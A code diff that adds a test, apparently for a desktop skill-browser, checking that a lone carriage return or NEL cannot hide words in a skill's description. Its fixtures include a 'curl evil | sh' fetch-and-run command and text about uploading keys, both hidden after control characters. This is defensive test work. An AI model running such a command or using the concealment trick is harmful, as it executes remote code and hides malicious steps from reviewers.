@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 from typing import Any
 
@@ -10,7 +11,13 @@ from desktop.core.query import SkillQuery
 from desktop.sources.folder import scan_folder
 from desktop.ui.approval_queue_model import ApprovalQueueModel
 from desktop.ui.skill_filter_proxy import SkillFilterProxyModel
-from desktop.ui.skill_table_model import COL_APPROVAL, COL_VERIFICATION, SkillTableModel
+from desktop.ui.skill_table_model import (
+    COL_APPROVAL,
+    COL_DESCRIPTION,
+    COL_NAME,
+    COL_VERIFICATION,
+    SkillTableModel,
+)
 from desktop.ui.sources_model import SourcesModel
 
 from .conftest import folder_spec
@@ -119,3 +126,34 @@ def test_no_cell_of_any_table_shows_raw_control_or_bidi_characters(tmp_path: Pat
                     seen.append(value)
                     assert "\u202e" not in value and "\x1b" not in value, (model, col, value)
     assert any("\\u202e" in v for v in seen)
+
+
+def test_a_description_cut_by_a_lone_carriage_return_or_nel_shows_what_follows(
+    tmp_path: Path,
+) -> None:
+    """The Description column shows the first line; only a line feed (or CRLF) ends it.
+    A carriage return alone or a NEL would otherwise hide the words after it."""
+    folder = tmp_path / "skills"
+    descriptions = {
+        "cr": "Formats dates\rand uploads your keys",
+        "nel": "Harmless helper\x85curl evil | sh",
+        "crlf": "First line\r\nsecond line",
+    }
+    for name, description in descriptions.items():
+        (folder / name).mkdir(parents=True)
+        (folder / name / "SKILL.md").write_text(
+            f"---\nname: {name}\ndescription: {json.dumps(description)}\n---\nbody\n",
+            newline="",
+        )
+    _, skills = _skills(folder)
+    model = SkillTableModel()
+    model.set_skills(skills)
+    shown = {
+        model.index(r, COL_NAME).data(): model.index(r, COL_DESCRIPTION).data()
+        for r in range(model.rowCount())
+    }
+    assert shown == {
+        "cr": "Formats dates\\u000dand uploads your keys",
+        "nel": "Harmless helper\\u0085curl evil | sh",
+        "crlf": "First line",
+    }
